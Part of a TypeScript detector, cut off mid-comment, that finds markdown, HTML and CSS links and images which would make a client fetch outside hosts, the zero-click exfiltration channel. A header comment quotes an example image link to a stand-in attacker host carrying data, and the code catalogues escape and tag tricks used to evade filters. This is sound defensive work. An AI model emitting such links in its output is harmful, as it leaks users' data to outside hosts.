// EXFIL_LINK: markdown and HTML that makes a client fetch or offer a URL on a host outside an
// allow-list — the zero-click exfiltration channel (EchoLeak-style `![](https://attacker/?q=<data>)`).
// Recognised forms: inline images and links `![t](url "title")` / `[t](url)`, reference-style
// `[t][id]`, `[t][]`, `[id]` with `[id]: url` definitions (the definition line is reported too),
// autolinks `<https://…>`, HTML `<img src>`, `<a href>…</a>` and other fetching tags (iframe, frame,
// script, source, video, audio, link, object, embed, form, input, track, SVG image, feImage and use,
// base, meta refresh, the `background` of body and table parts), and CSS `url(…)`, `@import "…"` and
// `image-set("…" 1x)` with plain strings wherever they appear (style attributes, style elements, SVG
// paint). Optionally bare URLs. Character references (`&#58;`, `&#x3a;`, `&colon;` …) are decoded in
// HTML attribute values, markdown destinations and before CSS is read, as browsers and CommonMark
// decode them; CSS escapes (`\3a `) in CSS values and in the names (`u\72l(`, `@\69mport`). A finding
// spans the whole markup as written (a CSS finding the `url(…)` token or the `image-set(…)` call), so
// redaction with style `remove` strips it; a link whose text reads as plain text names that text as
// kept (Finding.keep), so only its markup and URL go. Scores: images, fetching tags and CSS 0.9, links 0.6;
// +0.05 / +0.2 when the URL carries data (query string, fragment, or a long path segment).
import ianaTlds from 'tlds' with { type: 'json' };
import { compile, matchAll, matchAt, type Match } from '../../core/regex.ts';
import type { DetectionContext, Detector, Finding, KeepRange } from '../../core/types.ts';
import { hexValue, isAsciiAlnum } from '../../core/units.ts';
import { NAMED_MAX, NAMED_REFS, decodeCharRefs, refEnd, refStart } from '../../core/charrefs.ts';

export interface ExfilConfig {
  readonly id: string;
  /**
   * Host globs that may appear: "example.com" matches that host exactly, "*.example.com" any
   * subdomain (not the apex), "*" everything. Matching is case-insensitive, ports ignored.
   */
  readonly allowedHosts?: readonly string[];
  /** Only report images and fetching tags (zero-click), not clickable links. */
  readonly imagesOnly?: boolean;
  /** Also report bare http(s) URLs in text (default false). */
  readonly bareUrls?: boolean;
  /**
   * Leave a link's text in place when redaction removes its markup and URL (default true): findings of
   * links whose text is safe to show carry Finding.keep. Images keep nothing.
   */
  readonly keepLinkText?: boolean;
}

/**
 * Longest link a stream redacts whole (the detector's hold-back). URLs are unbounded in the patterns:
 * until the twenty-fourth round they stopped at 1,000 characters, so an image whose URL carried more
 * data than that (the zero-click channel at its most useful to an attacker) was not found at all.
 */
const LINK_HOLD = 4096;
const TITLE = `(?:[ \\t]+(?:"[^"\\n]{0,200}"|'[^'\\n]{0,200}'|\\([^)\\n]{0,200}\\)))?`;
/** Levels of balanced parentheses a destination may nest (commonmark.js and markdown-it allow 32). */
export const PAREN_DEPTH = 32;
/**
 * A destination not written in angle brackets: characters other than whitespace and parentheses
 * (angle brackets too: CommonMark only forbids a '<' first, and that is read as `<…>` before this),
 * escaped parentheses, and balanced parentheses nested up to PAREN_DEPTH, as CommonMark reads it
 * (`![x](https://h/p(1).png)` is an image of `https://h/p(1).png`, `![x](https://h/?q=<v>)` of
 * `https://h/?q=<v>`).
 */
const DEST = ((): string => {
  const ch = '(?:\\\\[()]|[^\\s()])';
  let group = `\\((?:${ch})*\\)`;
  for (let k = 2; k <= PAREN_DEPTH; k++) group = `\\((?:${ch}|${group})*\\)`;
  return `(?:${ch}|${group})+`;
})();
/**
 * Where a DEST destination starting at k ends, read as the patterns read it (greedily): the index of
 * the first character after it; -1 when it runs to the end of the text (more may follow); -2 when no
 * destination can end there (a parenthesis still open at whitespace, or nested deeper than
 * PAREN_DEPTH). hold.ts and openLinkAtEnd read destinations with it.
 */
export function destinationEnd(t: string, k: number): number {
  let depth = 0;
  let i = k;
  while (i < t.length) {
    const c = t.charCodeAt(i);
    if (c === 92) {
      if (i + 1 >= t.length) return -1;
      const n = t.charCodeAt(i + 1);
      i += n === 40 || n === 41 ? 2 : 1;
      continue;
    }
    if (c === 40) {
      if (depth === PAREN_DEPTH) return -2;
      depth++;
    } else if (c === 41) {
      if (depth === 0) return i;
      depth--;
    } else if (c === 32 || c === 9 || c === 10 || c === 12 || c === 13) return depth === 0 ? i : -2;
    i++;
  }
  return -1;
}

/** Markdown inline link or image (reference pattern of inlineMatches, which finds the same matches). */
// The destination is `<…>` (spaces allowed, as CommonMark allows them there: `![x](<https://h/a b>)`
// renders) or DEST; groups: '!' or '', <url>, url.
export const INLINE_PATTERN = `(!?)\\[[^\\]\\n]*\\]\\([ \\t]*(?:<([^<>\\n]+)>|(${DEST}))${TITLE}[ \\t]*\\)`;
const INLINE = compile('exfil/inline', INLINE_PATTERN);
const INLINE_AT = compile('exfil/inline-at', INLINE_PATTERN, 'y');
/**
 * The head of an inline link or image whose title INLINE does not read (longer than 200 characters,
 * not closed, or followed by more than blanks and ')'): a renderer may still read it as a link, so
 * the markup up to the end of its destination is reported. Same groups as INLINE_PATTERN.
 */
export const INLINE_HEAD_PATTERN = `(!?)\\[[^\\]\\n]*\\]\\([ \\t]*(?:<([^<>\\n]+)>|(${DEST}))[ \\t]+["'(]`;
const INLINE_HEAD = compile('exfil/inline-head', INLINE_HEAD_PATTERN);
const INLINE_HEAD_AT = compile('exfil/inline-head-at', INLINE_HEAD_PATTERN, 'y');
/**
 * The link around an image, `[![alt](img)](link)` (a badge): INLINE reads `[![alt](img)` as a link whose
 * text is "![alt", so what follows it, `](link)`, is this tail (groups: <url>, url).
 */
const LINK_TAIL_AT = compile('exfil/link-tail-at', `\\]\\([ \\t]*(?:<([^<>\\n]+)>|(${DEST}))${TITLE}[ \\t]*\\)`, 'y');
/** A link tail whose title LINK_TAIL_AT does not read (as INLINE_HEAD_PATTERN); groups: <url>, url. */
const LINK_TAIL_HEAD_AT = compile('exfil/link-tail-head-at', `\\]\\([ \\t]*(?:<([^<>\\n]+)>|(${DEST}))[ \\t]+["'(]`, 'y');
/**
 * A definition may sit in a block quote or a list item (`> [id]: …`, `- [id]: …`) and still defines
 * its label for the whole document: the blanks and container markers before its '[' (definitionLead).
 * More than three spaces is a code block at the top level; read as a definition, it only removes more.
 */
const REF_DEF = compile('exfil/refdef', `(?m)^[ \\t]*(?:(?:>|[-*+]|[0-9]{1,9}[.)])[ \\t]*)*\\[([^\\]\\n]{1,999})\\]:[ \\t]*(?:\\r?\\n[ \\t]*)?<?([^\\s<>]+)>?${TITLE}[ \\t]*$`);
const REF_USE = compile('exfil/refuse', `(!?)\\[([^\\]\\n]{0,999})\\](?:\\[([^\\]\\n]{0,999})\\])?`);
const AUTOLINK = compile('exfil/autolink', `<((?:https?|ftp)://[^\\s<>]+)>`, 'i');
/**
 * Tags that fetch (or, for `a`, offer) a URL named in an attribute. `base` redirects every relative URL
 * after it; `meta` is a refresh (its `content`); body and the table parts fetch their `background`;
 * feImage is SVG's filter image; SVG `use` fetches the document its `href` (or `xlink:href`) names
 * when that is not a fragment of this one (`#icon` stays relative). hold.ts (openerPossible) reads the
 * same list.
 */
export const HTML_TAG_NAMES: readonly string[] = [
  'img', 'a', 'iframe', 'frame', 'script', 'source', 'video', 'audio', 'link', 'object', 'embed', 'form', 'input', 'track', 'image',
  'feimage', 'use', 'base', 'meta', 'body', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th',
];
const HTML_TAGS = HTML_TAG_NAMES.join('|');
const A_CLOSE = compile('exfil/aclose', '^[^<]{0,1000}</a\\s*>', 'i');
const ATTR = compile('exfil/attr', `\\b(src|href|action|data|poster|srcset|background|formaction|ping)\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
/** An iframe's srcdoc document, values as in ATTR; read at most this many frames deep. */
const SRCDOC = compile('exfil/srcdoc', `\\bsrcdoc\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
const SRCDOC_DEPTH = 3;
/** What a finding's explanation says when its URL carries data. */
const DATA_NOTE = ', url carries data';
/** A meta tag's refresh: `http-equiv` and `content`, values as in ATTR. */
const META_ATTR = compile('exfil/meta-attr', `\\b(http-equiv|content)\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
/**
 * The reference patterns of the two scanners below (kept for the equivalence tests): the tag or URL
 * start is found by RE2 and the tail is measured with string scans (the scanners date from when the
 * tails were bounded by counted repetitions, which kept RE2 out of its DFA).
 */
export const HTML_TAG_PATTERN = `<(${HTML_TAGS})\\b[^>]*>`;
export const BARE_URL_PATTERN = `\\bhttps?://[^\\s<>"'()\\[\\]]+`;
const HTML_OPEN = compile('exfil/html-open', `<(${HTML_TAGS})\\b`, 'i');
const BARE_START = compile('exfil/bare-start', '\\bhttps?://', 'i');
// Ill-formed UTF-16 (lone surrogates) goes through the reference programs: what RE2 sees of such a
// string is an artefact of the UTF-8 conversion that the scans below need not imitate.
const HTML_TAG = compile('exfil/html', HTML_TAG_PATTERN, 'i');
const BARE = compile('exfil/bare', BARE_URL_PATTERN, 'i');

/** All matches of HTML_TAG_PATTERN (case-insensitive), leftmost first, non-overlapping; groups[0] is the tag. */
export function htmlTagMatches(text: string): Match[] {
  if (!text.isWellFormed()) return matchAll(HTML_TAG, text);
  const out: Match[] = [];
  let lastEnd = 0;
  let gt = -2; // next '>' at or after the current tag name (-1: none left)
  for (const m of matchAll(HTML_OPEN, text)) {
    if (m.start < lastEnd) continue; // inside the previous tag ([^>] also spans '<')
    if (gt !== -1 && gt < m.end) gt = text.indexOf('>', m.end);
    if (gt === -1) break;
    out.push({ start: m.start, end: gt + 1, groups: m.groups });
    lastEnd = gt + 1;
  }
  return out;
}

function isWsCode(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13;
}

/** The end of the blanks and block-quote markers ('>') that start the line at a (a when there are none), read up to b. */
function quoteMarkersEnd(text: string, a: number, b: number): number {
  let i = a;
  let end = a;
  for (;;) {
    while (i < b && (text.charCodeAt(i) === 32 || text.charCodeAt(i) === 9)) i++;
    if (i >= b || text.charCodeAt(i) !== 0x3e) return end;
    end = ++i;
  }
}

/**
 * Whether the line text[a, b) is blank for a paragraph: nothing but spaces, tabs and carriage returns
 * after its block-quote markers (`>` alone is a blank line inside a quote). hold.ts reads paragraphs
 * with it too.
 */
export function blankLine(text: string, a: number, b: number): boolean {
  return blankRange(text, quoteMarkersEnd(text, a, b), b);
}

/** Whether text[a, b) holds only spaces, tabs and carriage returns. */
export function blankRange(text: string, a: number, b: number): boolean {
  for (let i = a; i < b; i++) {
    const c = text.charCodeAt(i);
    if (c !== 32 && c !== 9 && c !== 13) return false;
  }
  return true;
}

/**
 * The text with each line ending inside a paragraph (and a carriage return before it) replaced by a
 * space: same length, same offsets. CommonMark lets a link's text, an image's description and the
 * blanks around a destination or title run over a line ending, only not over a blank line, so
 * `![chart\nof data](https://…)` is an image; the markdown patterns read this copy and never see a line
 * break but a paragraph's. A line ending stays when the line before it or the line after it is blank
 * (blankLine; the last line, not ended yet, counts as not blank); the block-quote markers of a line
 * that continues a paragraph become spaces (`> ![x](\n> https://…)` is an image in a quote). Other
 * blocks that end a paragraph (headings, fences, lists) are joined too: markup across them is read as
 * a link, which only removes more.
 */
export function joinLines(text: string): string {
  let n = text.indexOf('\n');
  if (n < 0) return text;
  let out = '';
  let pos = 0;
  let lineStart = 0;
  let blankBefore = blankLine(text, 0, n);
  while (n >= 0) {
    const next = text.indexOf('\n', n + 1);
    const blankAfter = next >= 0 && blankLine(text, n + 1, next);
    if (!blankBefore && !blankAfter) {
      const a = n > lineStart && text.charCodeAt(n - 1) === 13 ? n - 1 : n;
      out += text.slice(pos, a) + (a < n ? '  ' : ' ');
      pos = n + 1;
      // A block quote's markers on a line that continues its paragraph are not part of it.
      const q = quoteMarkersEnd(text, pos, next < 0 ? text.length : next);
      if (q > pos) {
        out += ' '.repeat(q - pos);
        pos = q;
      }
    }
    lineStart = n + 1;
    blankBefore = blankAfter;
    n = next;
  }
  return pos === 0 ? text : out + text.slice(pos);
}

/** What an escaped bracket becomes in markdownView: no bracket, no whitespace, a destination character. */
const ESCAPED_BRACKET = '\u001a';

/**
 * The copy of a text the markdown patterns read: same length, same offsets. Line endings inside a
 * paragraph are spaces (joinLines), and a backslash-escaped '[' or ']' is ESCAPED_BRACKET: CommonMark
 * reads `\[` and `\]` as text, so `![a\](b)](https://…)` is one image whose description is "a](b)",
 * not a link to "b" followed by text (a backslash escaped by another one escapes nothing).
 */
export function markdownView(text: string): string {
  return joinLines(escapedBracketsAsText(text));
}

/** The text with each backslash-escaped '[' or ']' as ESCAPED_BRACKET (markdownView without joining lines). */
export function escapedBracketsAsText(text: string): string {
  let i = text.indexOf('\\');
  if (i < 0) return text;
  let out = '';
  let pos = 0;
  while (i >= 0) {
    let j = i;
    while (j < text.length && text.charCodeAt(j) === 92) j++;
    if ((j - i) % 2 === 1 && (text.charCodeAt(j) === 0x5b || text.charCodeAt(j) === 0x5d)) {
      out += text.slice(pos, j) + ESCAPED_BRACKET;
      pos = j + 1;
    }
    i = text.indexOf('\\', j);
  }
  return pos === 0 ? text : out + text.slice(pos);
}

/**
 * Where the rest of a link's text after an image inside it ends, from j (the image's end): the first
 * ']', '[' or line break (in the joined copy, a paragraph's end), or the text's length.
 */
export function linkTextEnd(text: string, j: number): number {
  let s = j;
  while (s < text.length) {
    const c = text.charCodeAt(s);
    if (c === 0x5d || c === 0x5b || c === 0x0a) break;
    s++;
  }
  return s;
}

/**
 * End of the INLINE_PATTERN match anchored at q, or -1 when there is none (hold.ts: whether a linked
 * image's tail may still follow its image); with `heads`, the later end of it and INLINE_HEAD_PATTERN's.
 */
export function inlineEndAt(text: string, q: number, heads = false): number {
  const e = matchAt(INLINE_AT, text, q)?.end ?? -1;
  return heads ? Math.max(e, matchAt(INLINE_HEAD_AT, text, q)?.end ?? -1) : e;
}

/**
 * Where an inline link can close: a "](" whose tail passes a necessary condition of INLINE_PATTERN's
 * tail (blanks, then a character a destination may start with: anything but whitespace and ')'). No
 * counted repetition, so RE2 keeps it in its DFA; a match holds one "](" and nothing after the
 * character that follows it, so every such "](" is reported.
 */
const INLINE_CLOSE = compile('exfil/inline-close', '\\]\\([ \\t]*[^\\s)]');

/** Where INLINE_CLOSE matches (each "](" an inline link or image may close at), in order. */
export function inlineCloses(text: string): number[] {
  return matchAll(INLINE_CLOSE, text).map((c) => c.start);
}

/**
 * All matches of INLINE_PATTERN, leftmost first, non-overlapping; groups are ['!' or '', url]. The
 * bracket text of a match cannot hold ']' or a newline, so a match is fixed by its "](" (found by
 * INLINE_CLOSE, in order) and starts at a '[' after the last ']' or newline before it (CommonMark
 * bounds neither a link's text nor an image's description); the leftmost such '[' is tried with one
 * anchored RE2 match (if it fails, every '[' for that "](" fails: what follows the "](" is the same). The unanchored program is many times
 * slower (it was measured with the URL bounded by a counted repetition). With `heads`, the same for
 * INLINE_HEAD_PATTERN; `closes`: inlineCloses(text), when the caller has it.
 */
export function inlineMatches(text: string, heads = false, closes: readonly number[] = inlineCloses(text)): Match[] {
  if (!text.isWellFormed()) return matchAll(heads ? INLINE_HEAD : INLINE, text);
  const at = heads ? INLINE_HEAD_AT : INLINE_AT;
  const out: Match[] = [];
  let lastEnd = 0;
  for (const close of closes) {
    if (close < lastEnd) continue;
    // The bracket text: back to the last ']' or newline (each walk ends at the ']' of an earlier
    // candidate at the latest: linear).
    let from = close;
    while (from > lastEnd) {
      const ch = text.charCodeAt(from - 1);
      if (ch === 0x5d || ch === 0x0a) break;
      from--;
    }
    // The first '[' within [from, close): searched in that range only (an unbounded indexOf read on to the
    // text's end for every "](" when no '[' follows: quadratic on "](" runs without brackets).
    let p = from;
    while (p < close && text.charCodeAt(p) !== 0x5b) p++;
    if (p >= close) continue;
    const start = p > lastEnd && text.charCodeAt(p - 1) === 0x21 ? p - 1 : p;
    const m = matchAt(at, text, start, out.length >= 2);
    if (m === null) continue;
    out.push(m);
    lastEnd = m.end;
  }
  return out;
}

/** RE2's \s plus the other characters a bare URL stops at. */
function bareStop(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 12 || c === 13 || c === 60 || c === 62 || c === 34 || c === 39 || c === 40 || c === 41 || c === 91 || c === 93;
}

/** All matches of BARE_URL_PATTERN (case-insensitive), leftmost first, non-overlapping. */
export function bareUrlMatches(text: string): Match[] {
  if (!text.isWellFormed()) return matchAll(BARE, text);
  const out: Match[] = [];
  let lastEnd = 0;
  for (const m of matchAll(BARE_START, text)) {
    if (m.start < lastEnd) continue;
    let i = m.end;
    let n = 0;
    while (i < text.length) {
      const c = text.charCodeAt(i);
      if (bareStop(c)) break;
      if (c >= 0xd800 && c <= 0xdbff && i + 1 < text.length) {
        const d = text.charCodeAt(i + 1);
        i += d >= 0xdc00 && d <= 0xdfff ? 2 : 1;
      } else i++;
      n++;
    }
    if (n === 0) continue;
    out.push({ start: m.start, end: i, groups: [] });
    lastEnd = i;
  }
  return out;
}

// ------------------------------------------------------------------------------ character references
// Decoding: core/charrefs.ts (the shared normaliser reads references too).

/**
 * Start of a character reference still being written at the end of `t` — later text can change what
 * it decodes to (`&#11` may become `&#114;`, `&co` `&colon;`) — or t.length. Numeric references take
 * any number of digits; a name is open while it is a prefix of a listed one (the ';' still to come).
 */
export function openRefStart(t: string): number {
  const L = t.length;
  let i = L;
  while (i > 0 && isAsciiAlnum(t.charCodeAt(i - 1))) i--;
  if (i > 0 && t.charCodeAt(i - 1) === 0x26) {
    if (i === L) return L - 1; // a lone '&'
    const name = t.slice(i, L);
    if (L - i <= NAMED_MAX && !(name.charCodeAt(0) >= 48 && name.charCodeAt(0) <= 57)) {
      for (const k of NAMED_REFS.keys()) if (k.startsWith(name)) return i - 1;
    }
    return L;
  }
  if (i > 1 && t.charCodeAt(i - 1) === 0x23 && t.charCodeAt(i - 2) === 0x26) {
    let k = i;
    const hex = k < L && (t.charCodeAt(k) | 0x20) === 0x78;
    if (hex) k++;
    while (k < L && (hex ? hexValue(t.charCodeAt(k)) >= 0 : t.charCodeAt(k) >= 48 && t.charCodeAt(k) <= 57)) k++;
    return k === L ? i - 2 : L;
  }
  return L;
}

// ------------------------------------------------------------------------------------------ CSS

/** CSS whitespace (after preprocessing): space, tab, LF, CR, FF. */
function isCssWs(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13 || c === 12;
}

/**
 * A character that continues a CSS identifier before "url": then the function is another one
 * (`myurl(`, `-url(`, `5url(`). A backslash is not counted: `\url(` is an escaped url( (found).
 */
function isCssIdent(c: number): boolean {
  return isAsciiAlnum(c) || c === 45 || c === 95 || c >= 0x80;
}

/** Decodes CSS escapes: `\` and 1–6 hex digits (and one whitespace after them), `\` and a character. */
export function cssUnescape(v: string): string {
  let b = v.indexOf('\\');
  if (b < 0) return v;
  let out = '';
  let i = 0;
  for (; b >= 0; b = v.indexOf('\\', i)) {
    out += v.slice(i, b);
    const k = b + 1;
    if (k >= v.length) {
      i = k;
      break;
    }
    const c = v.charCodeAt(k);
    if (hexValue(c) >= 0) {
      let m = k;
      let cp = 0;
      while (m < v.length && m - k < 6 && hexValue(v.charCodeAt(m)) >= 0) cp = cp * 16 + hexValue(v.charCodeAt(m++));
      out += cp === 0 || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff) ? '\ufffd' : String.fromCodePoint(cp);
      if (m < v.length && isCssWs(v.charCodeAt(m))) m += v.charCodeAt(m) === 13 && v.charCodeAt(m + 1) === 10 ? 2 : 1;
      i = m;
    } else if (c === 10 || c === 12) i = k + 1; // an escaped line break (in a string): nothing
    else if (c === 13) i = k + (v.charCodeAt(k + 1) === 10 ? 2 : 1);
    else {
      out += v[k];
      i = k + 1;
    }
  }
  return out + v.slice(i);
}

/** A string argument of image-set(): from its quote to after its closing quote, and its value. */
export interface CssString {
  readonly start: number;
  readonly end: number;
  readonly valueStart: number;
  readonly valueEnd: number;
}

/**
 * One CSS construct that names a URL: `url(…)`, `@import` and a string, or `image-set(…)` (kind
 * 'set') with its string arguments (`strings`; its url( tokens are url matches of their own).
 */
export interface CssMatch {
  /**
   * Where the name starts as written: the 'u' of url(, the '@' of @import, the 'i' or '-' of
   * image-set(, or the '\' of an escape that writes the first character.
   */
  readonly start: number;
  /**
   * After the ')' (or after the value when there is none), after the string of an @import; for an
   * image-set( after its ')' when `closed`, else where reading its arguments stopped.
   */
  readonly end: number;
  /** The URL (none for an image-set(: its strings are the URLs). */
  readonly valueStart: number;
  readonly valueEnd: number;
  readonly kind: 'url' | 'import' | 'set';
  readonly strings?: readonly CssString[];
  /** An image-set( closed by its ')'. */
  readonly closed?: boolean;
  /**
   * After the '(' of an image-set( or of a url( whose name has escapes: a cut inside such a name can
   * leave a name CSS reads (`-webkit-image-set(` cut after "-webkit-", `\u\72l(` after '\').
   */
  readonly nameEnd?: number;
  /** It reads the end of the text: more text can change its value or its end (a stream holds it). */
  readonly open: boolean;
}

const OPEN_ESCAPE = -1;
const BAD_ESCAPE = -2;

/** End of the CSS escape at t[j] ('\') in an unquoted url(), OPEN_ESCAPE if it reaches the end, BAD_ESCAPE for `\` and a line break. */
function escapeEnd(t: string, j: number): number {
  const L = t.length;
  const k = j + 1;
  if (k >= L) return OPEN_ESCAPE;
  const c = t.charCodeAt(k);
  if (c === 10 || c === 13 || c === 12) return BAD_ESCAPE;
  if (hexValue(c) < 0) return k + 1;
  let m = k;
  while (m < L && m - k < 6 && hexValue(t.charCodeAt(m)) >= 0) m++;
  if (m >= L) return OPEN_ESCAPE; // more digits, or the whitespace that ends them, may follow
  if (isCssWs(t.charCodeAt(m))) {
    if (t.charCodeAt(m) !== 13) return m + 1;
    if (m + 1 >= L) return OPEN_ESCAPE;
    return t.charCodeAt(m + 1) === 10 ? m + 2 : m + 1;
  }
  return m;
}

/**
 * A CSS string from its quote at t[i]: the index of the closing quote, of the line break that ends it
 * unclosed (negated and minus one), or L when it runs to the end of the text. Escapes are skipped.
 */
function cssStringEnd(t: string, i: number): number {
  const L = t.length;
  const q = t.charCodeAt(i);
  let j = i + 1;
  while (j < L) {
    const c = t.charCodeAt(j);
    if (c === q) return j;
    if (c === 10 || c === 13 || c === 12) return -j - 1;
    if (c === 0x5c) j += t.charCodeAt(j + 1) === 13 && t.charCodeAt(j + 2) === 10 ? 3 : 2;
    else j++;
  }
  return L;
}

/**
 * The url( token whose '(' is at p - 1 and 'u' at start. Its value is a string, or runs up to
 * whitespace, a parenthesis, a quote or an angle bracket (the end of a tag or of an attribute value:
 * CSS fetches a url() that its attribute cuts short); the token ends after a ')' that follows the value
 * (whitespace between), else after the value. null: an empty value.
 */
function urlToken(t: string, start: number, p: number): CssMatch | null {
  const L = t.length;
  let i = p;
  while (i < L && isCssWs(t.charCodeAt(i))) i++;
  if (i >= L) return { start, end: L, valueStart: L, valueEnd: L, kind: 'url', open: true };
  const q = t.charCodeAt(i);
  let valueStart = i;
  let valueEnd: number;
  if (q === 0x22 || q === 0x27) {
    const e = cssStringEnd(t, i);
    valueStart = i + 1;
    if (e >= L) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
    if (e < 0) return { start, end: -e - 1, valueStart, valueEnd: -e - 1, kind: 'url', open: false }; // unclosed at a line break
    valueEnd = e;
    i = e + 1;
  } else {
    let j = i;
    for (;;) {
      if (j >= L) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
      const c = t.charCodeAt(j);
      if (isCssWs(c) || c === 0x28 || c === 0x29 || c === 0x22 || c === 0x27 || c === 0x3c || c === 0x3e) break;
      if (c === 0x5c) {
        const e = escapeEnd(t, j);
        if (e === OPEN_ESCAPE) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
        if (e === BAD_ESCAPE) break;
        j = e;
      } else j++;
    }
    if (j === i) return null;
    valueEnd = j;
    i = j;
  }
  let k = i;
  while (k < L && isCssWs(t.charCodeAt(k))) k++;
  if (k >= L) return { start, end: i, valueStart, valueEnd, kind: 'url', open: true };
  return { start, end: t.charCodeAt(k) === 0x29 ? k + 1 : i, valueStart, valueEnd, kind: 'url', open: false };
}

const IMPORT = 'import';
const URL_NAMES = ['url'];
/** image-set() and its prefixed form: both take a plain string as an image URL. */
const SET_NAMES = ['image-set', '-webkit-image-set'];
const LONGEST_NAME = 17; // "-webkit-image-set"
/** Longest CSS escape: '\', six hex digits, CR LF (one whitespace). */
const ESCAPE_MAX = 9;
export const NAME_NO = -1;
export const NAME_OPEN = -2;

/**
 * End of the CSS name `name` (lower-case ASCII letters and '-') written at t[i], each character as
 * itself or as an escape (CSS Syntax 3: '\' and 1–6 hex digits and one optional whitespace, or '\'
 * and a character that is neither a hex digit nor a line break, which stands for itself), ASCII
 * case-insensitive as CSS reads names: `u\72l`, `\75 rl`, `U\52L`, `\url` are all "url". NAME_NO if
 * it is not there; NAME_OPEN if the text ends where it still may be (`u\7` may become `u\72`, a '\'
 * anything). A result of t.length is the whole name, a whitespace that ends a hex escape may follow.
 */
export function cssNameAt(t: string, i: number, name: string): number {
  const L = t.length;
  let j = i;
  for (let n = 0; n < name.length; n++) {
    if (j >= L) return NAME_OPEN;
    let c = t.charCodeAt(j);
    if (c === 0x5c) {
      if (j + 1 >= L) return NAME_OPEN;
      const d = t.charCodeAt(j + 1);
      if (d === 10 || d === 12 || d === 13) return NAME_NO; // not an escape: the name ends there
      if (hexValue(d) >= 0) {
        let m = j + 1;
        let cp = 0;
        while (m < L && m - j <= 6 && hexValue(t.charCodeAt(m)) >= 0) cp = cp * 16 + hexValue(t.charCodeAt(m++));
        // Fewer than six digits so far: more may follow, open while they can still make the character.
        if (m >= L && m - j <= 6) return hexMayBecome(cp, 7 - (m - j), name.charCodeAt(n)) ? NAME_OPEN : NAME_NO;
        if (m < L && isCssWs(t.charCodeAt(m))) m += t.charCodeAt(m) === 13 && t.charCodeAt(m + 1) === 10 ? 2 : 1;
        c = cp;
        j = m;
      } else {
        c = d;
        j += 2;
      }
    } else j++;
    if (c >= 65 && c <= 90) c += 32;
    if (c !== name.charCodeAt(n)) return NAME_NO;
  }
  return j;
}

/**
 * Whether hex digits read so far (value v), followed by up to `more` further digits, can still write
 * `lower` (a lower-case ASCII letter or '-') in either case.
 */
function hexMayBecome(v: number, more: number, lower: number): boolean {
  const upper = lower >= 97 && lower <= 122 ? lower - 32 : lower;
  for (let k = 0, f = 1; k <= more; k++, f *= 16) {
    if (Math.floor(lower / f) === v || Math.floor(upper / f) === v) return true;
  }
  return false;
}

/** Whether `name` may be written at t[i] up to the end of t (still being written, or whole: '(' may follow). */
function nameMayEnd(t: string, i: number, name: string): boolean {
  const e = cssNameAt(t, i, name);
  return e === NAME_OPEN || e === t.length;
}

/** Whether t[p - name.length, p) is `name` written plainly (ASCII case-insensitive). */
function plainBefore(t: string, p: number, name: string): boolean {
  const s = p - name.length;
  if (s < 0) return false;
  for (let k = 0; k < name.length; k++) {
    let c = t.charCodeAt(s + k);
    if (c >= 65 && c <= 90) c += 32;
    if (c !== name.charCodeAt(k)) return false;
  }
  return true;
}

/**
 * Start of the run of units before p that a name made of letters and '-' can be written with:
 * letters, digits (of hex escapes), '-', '\', and whitespace after a hex digit (CR LF is one); no
 * further back than `floor`. Returned as is when the run holds a '\', else as -start - 1.
 */
function nameRunBefore(t: string, p: number, floor: number): number {
  let r = p;
  let backslash = false;
  while (r > floor) {
    const c = t.charCodeAt(r - 1);
    if (c === 0x5c) backslash = true;
    else if (!isAsciiAlnum(c) && c !== 45) {
      if (!isCssWs(c)) break;
      const w = c === 10 && r >= 2 && t.charCodeAt(r - 2) === 13 ? r - 2 : r - 1;
      if (w === 0 || hexValue(t.charCodeAt(w - 1)) < 0) break;
      r = w;
      continue;
    }
    r--;
  }
  return backslash ? r : -r - 1;
}

/**
 * Start of one of `names` written with at least one escape and ending right before t[p] (a '('), or
 * -1; like a name written plainly, it starts where the character before it does not continue an
 * identifier. Such a name lies in the run (nameRunBefore) that ends at p, at most ESCAPE_MAX units
 * per character: bounded work per '('.
 */
function escapedNameBefore(t: string, p: number, names: readonly string[]): number {
  let longest = 0;
  for (const n of names) longest = Math.max(longest, n.length);
  const r = nameRunBefore(t, p, Math.max(0, p - ESCAPE_MAX * longest));
  if (r < 0) return -1; // written plainly: the caller's check
  for (let s = r; s < p; s++) {
    if (s > 0 && isCssIdent(t.charCodeAt(s - 1))) continue;
    for (const n of names) if (p - s <= ESCAPE_MAX * n.length && cssNameAt(t, s, n) === p) return s;
  }
  return -1;
}

/** Whether the unit before a '(' can end `last` written plainly or escaped (a hex digit, or the whitespace after one). */
function mayEndName(c: number, last: number): boolean {
  return (c | 0x20) === last || hexValue(c) >= 0 || isCssWs(c);
}

/**
 * Start of the name of a url( whose '(' is at p (p >= 3), or -1. `esc(p)`: whether a '\' occurs
 * before p (escaped names are looked for only then).
 */
function urlNameBefore(t: string, p: number, esc: (i: number) => boolean): number {
  if (plainBefore(t, p, 'url') && !(p >= 4 && isCssIdent(t.charCodeAt(p - 4)))) return p - 3;
  if (!mayEndName(t.charCodeAt(p - 1), 0x6c) || !esc(p)) return -1;
  return escapedNameBefore(t, p, URL_NAMES);
}

/** Start of the name of an image-set( or -webkit-image-set( whose '(' is at p, or -1 (as urlNameBefore). */
function setNameBefore(t: string, p: number, esc: (i: number) => boolean): number {
  if (plainBefore(t, p, 'image-set')) {
    const s = p - 9;
    if (!(s > 0 && isCssIdent(t.charCodeAt(s - 1)))) return s;
    if (plainBefore(t, s, '-webkit-') && !(s > 8 && isCssIdent(t.charCodeAt(s - 9)))) return s - 8;
  }
  if (!mayEndName(t.charCodeAt(p - 1), 0x74) || !esc(p)) return -1;
  return escapedNameBefore(t, p, SET_NAMES);
}

/**
 * Characters that no image-set() argument list holds outside strings, comments and url( tokens (its
 * options are images, strings, resolutions, type() and commas): `; { } < > : ! ? @ = [ ] & $ | ~ ^` and
 * the backquote. CSS drops a declaration that has one there (nothing is fetched), and text that has one
